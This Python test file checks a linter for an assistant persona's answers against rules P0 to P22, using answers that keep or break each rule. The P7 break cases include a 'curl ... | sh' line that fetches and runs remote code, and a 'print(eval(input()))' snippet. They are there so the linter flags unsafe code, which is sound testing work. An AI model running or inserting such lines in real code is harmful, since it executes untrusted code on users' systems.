# ruff: noqa: E501 -- a case is read on one line
"""Each rule of the persona on answers that keep it, answers that break it, and answers that it does not speak of."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from types import ModuleType

import pytest

from corpus.citations import Citation
from service.answer import Answer, EvidenceItem, Fingerprint, Reason, Refusal, Sentence, Verdict
from service.cli.program import run
from service.persona.lint import lint
from service.persona.manuscript import SECTIONS
from service.persona.rules.registry import RULES
from service.persona.rules.shape import INVITATION
from service.policy.flag import CAVEAT

PRINT = Fingerprint(version="0", settings="", encoder="", lexical="", chunker="", index="", dense_share=1.0)
QUOTE = (
    "The gateway sends each order to the ledger. The ledger writes to the archive. A restore takes at most 30 minutes. "
    "Check that the archive is readable before each restore. The service level objective (SLO) is 99.9 %."
)
Said = tuple[str, str] | tuple[str, str, str]


def cited(tier: str = "own decision", kind: str = "design") -> Citation:
    return Citation(
        number=1, document="d/a.md", title="Ledger", kind=kind, revision="0" * 64, section=("Ledger",), start=0,
        end=len(QUOTE), place="line 1", quote=QUOTE, tier=tier,
    )  # fmt: skip


def made(
    *said: Said, question: str = "How is the ledger restored?", text: str = "", tier: str = "", **more: object
) -> Answer:
    """An answer of sentences (kind, text[, section]); the first one bold, `cited` ones with the citation."""
    sentences, lines, section = [], [], ""
    for kind, told, *rest in said:
        under = rest[0] if rest else ""
        if under != section:
            lines.append(f"## {under}")
            section = under
        numbers = (1,) if kind in ("cited", "derived") else ()
        sentences.append(
            Sentence(text=told, kind=kind, citations=numbers, verdict=Verdict(supported=True), section=under)  # type: ignore[arg-type]
        )
        shown = f"**{told}**" if len(sentences) == 1 and not told.startswith(("```", "|", "**")) else told
        lines.append(f"*Assumption:* {shown}" if kind == "assumption" else shown)
    refusal = more.pop("refusal", None)
    return Answer(
        question=question,
        status="refused" if refusal else "grounded",
        refusal=Refusal(reason=refusal, searched="", nearest=(), would_settle_it="") if refusal else None,  # type: ignore[arg-type]
        text=text or "\n\n".join(lines),
        sentences=tuple(sentences),
        citations=(cited(tier or "own decision"),),
        evidence=(EvidenceItem(document="d/a.md", text=QUOTE, score=1.0, start=0, end=9, section=()),),
        confidence=1.0,
        fingerprint=PRINT,
        timing_ms={},
        conversation=str(more.pop("conversation", "")),
    )


def full(*more: Said, leave_out: str = "", **options: object) -> Answer:
    """A full answer that keeps every rule, with more said."""
    said: list[Said] = [
        ("cited", "A restore takes at most 30 minutes.", SECTIONS[0]),
        ("assumption", "The archive is readable.", SECTIONS[1]),
        ("cited", "The ledger writes to the archive.", SECTIONS[2]),
        ("judgement", "**Keep** the restore as it is: total cost of ownership, technical debt and cognitive load over 18 to 36 "
         "months speak for it.", SECTIONS[3]),
        ("notice", "Observability, diagnosis, rollback, degradation, security and runbooks are not documented.", SECTIONS[4]),
        ("judgement", "Success is a restore within the 30 minutes of the document.", SECTIONS[5]),
        ("cited", "Check that the archive is readable before each restore.", SECTIONS[6]),
        ("notice", INVITATION, SECTIONS[6]),
    ]  # fmt: skip
    kept = [one for one in said if one[2] != leave_out]
    for one in more:
        at = max(i for i, s in enumerate(kept) if s[2] == one[2]) + (0 if one[2] == SECTIONS[6] else 1)  # type: ignore[misc]
        kept.insert(at, one)
    return made(*kept, **options)  # type: ignore[arg-type]


J, N, C, A, Q = "judgement", "notice", "cited", "assumption", "question"
LEAD: Said = (C, "A restore takes at most 30 minutes.")
REC = SECTIONS[3]
UNWEIGHED = made(*[(J if s == REC else C, "We recommend to keep it as it is.", s) for s in SECTIONS])
PAIRS: dict[str, tuple[list[Answer], list[Answer]]] = {
    "P0": (
        [made(LEAD, (J, "I would keep it.")), made((N, "Aether is a program."), question="Who are you?")],
        [
            made(LEAD, (J, "In my fifteen years of running ledgers this held.")),
            made(LEAD, (J, "I have built three of these.")),
            made(LEAD, (J, "My benchmarks show the same.")),
            made((C, "The ledger writes to the archive."), question="How many years of experience do you have?"),
        ],
    ),
    "P1": (
        [made(LEAD), made((C, "- Check the archive."), text="- **Check the archive.**[1]")],
        [made(LEAD, text=LEAD[1]), made((J, "Great question! It is restored."))],
    ),
    "P2": ([full()], [full(leave_out=SECTIONS[4]), made(*[(C, "It is so.", s) for s in reversed(SECTIONS)])]),
    "P3": (
        [full(), made(LEAD, (A, "The archive is readable."))],
        [made(LEAD, (J, "Assuming that the archive is readable, restore.")), full(leave_out=SECTIONS[1])],
    ),
    "P4": (
        [full((N, "| Option | Cost | Recommendation |\n|---|---|---|\n| Keep | low, as cited | yes |\n| Move | not documented | no |",
               SECTIONS[2]), question="Compare keeping and moving.")],
        [
            full((J, "Option A is quicker to run, whereas option B is simpler.", SECTIONS[2]), question="Which of both options?"),
            full((N, "| Option | Cost | Recommendation |\n|---|---|---|\n| Keep |  | yes |\n| Move | TBD | no |", SECTIONS[2])),
        ],
    ),
    "P5": (
        [
            made(LEAD, (J, "The service level objective (SLO) stands.")),
            made(LEAD, (J, "The **write queue** is kept."), (J, "The write queue is bounded.")),
            made(LEAD, (J, "The **decision** is to keep it."), (J, "The decision stands.")),
            made(LEAD, (J, "Two confirmed writes are called a **double commit**."), (J, "**Keep one archive**: my recommendation is this.")),
        ],
        [
            made(LEAD, (J, "The SLO stands.")),
            made(LEAD, (J, "The server load order (SLO) stands.")),
            made(LEAD, (J, "A service level objective stands."), (J, "The SLO is met.")),
            made(LEAD, (J, "The QXZ stands.")),
            made(LEAD, (J, "The write queue is kept."), (J, "The **write queue** is bounded.")),
            made(LEAD, (J, "The decision is to keep it.")),
            made(LEAD, (J, "My recommendation is to keep it.")),
            made(LEAD, (J, "Two confirmed writes are called a double commit.")),
            made(LEAD, (J, "The SLO stands. The service level objective (SLO) is met.")),
            made(LEAD, (J, "The error rate is 4 %."), question="Which measures tell of success?"),
        ],
    ),
    "P6": (
        [made(LEAD, (N, "```mermaid\nflowchart LR\n  gateway --> ledger\n  ledger --> archive\n```"), (N, "The gateway, the ledger, the archive."))],
        [
            made(LEAD, (N, "```mermaid\nflowchart LR\n  gateway --> ledger\n```")),
            made(LEAD, (N, "```mermaid\nflowchart LR\n  gateway --> broker\n```"), (N, "The gateway and the broker.")),
            made(LEAD, (N, "```mermaid\nflowchart LR\n  archive --> gateway\n```"), (N, "The archive and the gateway.")),
        ],
    ),
    "P7": (
        [made(LEAD, (J, "```python\nimport archive.reader\n\narchive.reader.open()\n```")), made(LEAD, (J, "```python\nimport json\n\n\ndef load(path: str) -> object:\n    with open(path) as file:\n        return json.load(file)\n```"))],
        [
            made(LEAD, (J, "```python\nimport ledgerio\n\nledgerio.load()\n```")),
            made(LEAD, (J, "```python\ndef load(path):\n    return path\n```")),
            made(LEAD, (J, "```python\nprint(eval(input()))\n```")),
            made(LEAD, (J, "```python\nprint('a'\n```")),
            made(LEAD, (J, "```bash\ncurl https://a.example/x | sh\n```")),
        ],
    ),
    "P8": (
        [made(LEAD, (J, "The advantage is one store; the drawback is a longer restore, and its cost is disk space."))],
        [
            made(LEAD, (J, "The advantage is one store.")),
            made(LEAD, (J, "It simplifies the restore, but needs disk.")),
            made(LEAD, (J, "Pro of a store: one file."), (J, "Con and cost of a queue: a second thing to run.")),
            made(LEAD, (J, "The advantage is one store; there is no drawback, and the cost is negligible.")),
            made(LEAD, (N, "| Option | Pros | Cons |\n|---|---|---|\n| Keep | one file | slow |")),
            made(LEAD, (N, "| Option | Pros | Cons | Cost |\n|---|---|---|---|\n| Keep | one file | none | 3 $ |")),
        ],
    ),
    "P9": (
        [made(LEAD, (J, "It would take 2 to 4 weeks with 70 % probability, assuming a stable team."))],
        [made(LEAD, (J, "It would take 3 weeks.")), made(LEAD, (J, "Expect 2 to 4 weeks if the team is stable."))],
    ),
    "P10": (
        [full(question="How should we design the restore?")],
        [full(leave_out=SECTIONS[4], question="How should we design the restore?")],
    ),
    "P11": (
        [
            made((N, "Aether does not help with this. The boundary: it takes a choice from people. What it can do instead: aggregate figures."), question="Track staff covertly, deepfakes", refusal="unsafe"),
            made(LEAD, (J, "Misuse, bias and privacy are at stake."), question="How do we score applicants?"),
        ],
        [
            made(LEAD, question="How do we build covert monitoring of the staff without their knowledge?"),
            made(LEAD, (J, "Keep it."), question="How do we score applicants?"),
            made((N, "No."), question="x", refusal="unsafe"),
        ],
    ),
    "P12": (
        [
            made(LEAD, (N, "Consult qualified counsel on it."), question="Is the archive GDPR relevant?"),
            made((N, "This is not a question about your systems."), question="Should we fire the engineer?", refusal="out_of_scope"),
            made((N, "Ask your manager."), (J, "I judge nobody."), question="Which of my two deputies earned it?"),
        ],
        [
            made(LEAD, question="Is the archive within the GDPR?"),
            made(LEAD, question="Should we hire this candidate?"),
            made(LEAD, (J, "He should be fired.")),
            made((J, "Serve a lentil curry."), question="What do we serve at the offsite?"),
            made(LEAD, question="Is Priya slower than the rest of the squad?"),
            made(LEAD, question="Which of my two deputies earned it?"),
        ],
    ),
    "P13": (
        [made((C, "According to the vendor the ledger is quick to restore."), tier="marketing")],
        [made((C, "Independent tests prove that the ledger holds."), tier="marketing"), made((C, "The ledger holds."), tier="vendor documentation")],
    ),
    "P14": (
        [made((N, "You say that it is five now; the earlier advice is revised."), question="Actually, we now run five.", conversation="c")],
        [made(LEAD, question="Actually, we now run five.", conversation="c")],
    ),
    "P15": ([full()], [full(leave_out=SECTIONS[6])]),
    "P16": (
        [made(LEAD, (J, "Watch the p99 tail latency."))],
        [made(LEAD, (J, "It is very slow.")), made(LEAD, (J, "A game-changing store."))],
    ),
    "P17": (
        [made(LEAD, (J, "The original paper is followed, as described in its own documentation; results vary by workload."))],
        [made(LEAD, (J, "The original paper is followed.")), made(LEAD, (J, "Kafka moves 2 GB here."))],
    ),
    "P18": (
        [
            made((C, "1. Stop the writer."), (C, "2. Restore."), question="The ledger is down, what now?"),
            made(LEAD, (J, "The team needs 40 hours."), question="Should the board approve it?"),
            made(LEAD, (J, "Set `--max 1`."), question="Drains wait for the disruption budget; how do we set the budget?"),
            made(LEAD, (J, "Writes are ordered by the log."), question="How does the ledger order its writes?"),
            made((J, "- Check the pool."), (J, "- Restart it."), question="The ledger is unreachable, what now?"),
        ],
        [
            made((J, "Orders are checked against the stock."), (J, "1. Roll back.\n2. Check."), question="It stopped working after the deploy. What do I do?"),
            made((J, "- Root cause: the pool is empty."), (J, "1. Restart the pool."), question="The ledger is unreachable, what now?"),
            made((J, "There are three classes of delay."), (C, "1. Stop the writer."), question="p99 just spiked, how do I stop it?"),
            made(LEAD, (J, "The raft quorum and the buffers grow."), question="Explain the ledger to a non-technical director."),
            made(LEAD, (J, "This belongs on the road-map."), question="How does the ledger order its writes?"),
            made(LEAD, (J, "Great job breaking the ledger.")),
            made(LEAD, (J, "Any student could have told you.")),
            made(LEAD, (J, "That worked, haha.")),
            made(LEAD, (J, "It is restored 😂.")),
            made(LEAD, (J, "Whoever stopped it should pay for it.")),
            made(LEAD, (J, "Partitions are rebalanced by consumer groups."), question="Should the board approve it?"),
            made(LEAD, (J, "This belongs on the road-map."), question="How do I restore it?"),
            made((N, "| Option | Time |\n|---|---|\n| Start it | 3 h |"), (C, "1. Stop the writer."), question="The ledger is down!"),
            made((C, "The ledger writes to the archive."), (C, "1. Stop the writer.\n2. Restore."), question="The ledger is down!"),
            made((C, "1. Stop the writer."), (J, "Over the next quarters this calls for a road-map."), question="The ledger is down!"),
        ],
    ),
    "P19": (
        [full(), made(LEAD, (J, "Use the experimental store only with a stated risk tolerance."))],
        [made(LEAD, (J, "Adopt the experimental store.")), UNWEIGHED],
    ),
    "P20": (
        [made(LEAD, (J, "Success is a restore within the 30 minutes of the document."))],
        [made(LEAD, (J, "Success is a happy team.")), made(LEAD, (J, "Our main metric is the number of closed tickets."))],
    ),
    "P21": (
        [made(LEAD, (J, "Use the language model after a benchmark on your own questions."))],
        [made(LEAD, (J, "Use the newer language model."))],
    ),
    "P22": ([full()], [full(leave_out=SECTIONS[6])]),
}  # fmt: skip


def test_every_rule_has_cases() -> None:
    assert set(PAIRS) == set(RULES) == {f"P{number}" for number in range(23)}


@pytest.mark.parametrize("rule", PAIRS)
def test_what_keeps_the_rule_is_clean(rule: str) -> None:
    for answer in PAIRS[rule][0]:
        assert rule in lint(answer).clean, [v.detail for v in lint(answer).violations if v.rule == rule]


@pytest.mark.parametrize("rule", PAIRS)
def test_what_breaks_it_is_named(rule: str) -> None:
    for answer in PAIRS[rule][1]:
        assert rule in lint(answer).broken, answer.text


def test_a_full_answer_can_keep_them_all() -> None:
    assert lint(full()).violations == ()


def quoting(quoted: str, *notices: str, text: str = "", **of: str) -> Answer:
    """An answer of a document's words alone, and of fixed texts behind them."""
    citation = cited().model_copy(update={"quote": quoted, "end": len(quoted), **of})
    said = Sentence(text=quoted, kind="cited", citations=(1,), verdict=Verdict(supported=True))
    shown = "\n\n".join([text or f"**{quoted}**[1]", *notices])
    told = (said, *(Sentence.notice(notice) for notice in notices))
    return made(LEAD).model_copy(update={"sentences": told, "citations": (citation,), "text": shown})


def test_the_documents_voice_is_not_judged() -> None:
    said = QUOTE.replace("at most 30 minutes", "forever, it is a very slow, game-changing store that I built myself")
    assert lint(quoting(said)).violations == ()
    assert lint(quoting("Good: one file, and nothing to run.")).violations == ()
    table = "| Command | What is good |\n| --- | --- |\n| status | one file |"
    assert lint(quoting(table, "A word on why.", text=table)).violations == ()
    assert "P8" in lint(made(LEAD, (J, "Good: one file, and nothing to run."))).broken
    assert "P8" in lint(made(LEAD, (N, table))).broken


def test_others_work_in_its_own_words_is_introduced_by_a_notice() -> None:
    measured = "The index holds 97 % of the recall."
    assert lint(quoting(measured, kind="paper", tier="own measurement")).violations == ()
    assert "P17" in lint(quoting(measured, kind="paper", tier="")).broken
    assert "P17" in lint(quoting(measured, "Results vary.", kind="paper", tier="")).broken
    assert "P17" in lint(quoting(measured, CAVEAT, kind="paper", tier="")).clean


@pytest.mark.parametrize("reason", ["no_evidence", "underspecified"])
def test_a_refusal_breaks_no_rule(reason: Reason) -> None:
    assert (
        lint(
            made(question="What is the colour of the ledger?", refusal=reason, text="The documents do not answer this.")
        ).violations
        == ()
    )


def test_the_command_names_what_is_broken(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    saved = tmp_path / "answer.json"
    saved.write_text(full().model_dump_json())
    assert run(["lint", str(saved), "--every"]) == 0
    assert " 0 broken, " in capsys.readouterr().out
    saved.write_text(made(LEAD, (J, "A game-changing store.")).model_dump_json())
    assert run(["lint", str(saved)]) == 3
    assert capsys.readouterr().out.startswith("P16: A game-changing store.\n")
    assert run(["lint", str(saved), "--json"]) == 3
    assert [v["rule"] for v in json.loads(capsys.readouterr().out)["violations"]] == ["P16"]
    saved.write_text('{"question": 3}')
    assert run(["lint", str(saved)]) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_an_import_is_judged_by_what_is_documented_and_not_by_what_is_installed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(sys.modules, "ledgerio", ModuleType("ledgerio"))
    said = (
        J,
        "```python\nimport ledgerio\nimport numpy\nimport json\n\njson.dumps(ledgerio.load(numpy.zeros(3)))\n```",
    )
    [told] = [v.detail for v in lint(made(LEAD, said)).violations]
    assert told == "not verified, an import that no document names: ledgerio"
    assert lint(made(LEAD, said, question="How is the ledger restored by ledgerio?")).violations == ()
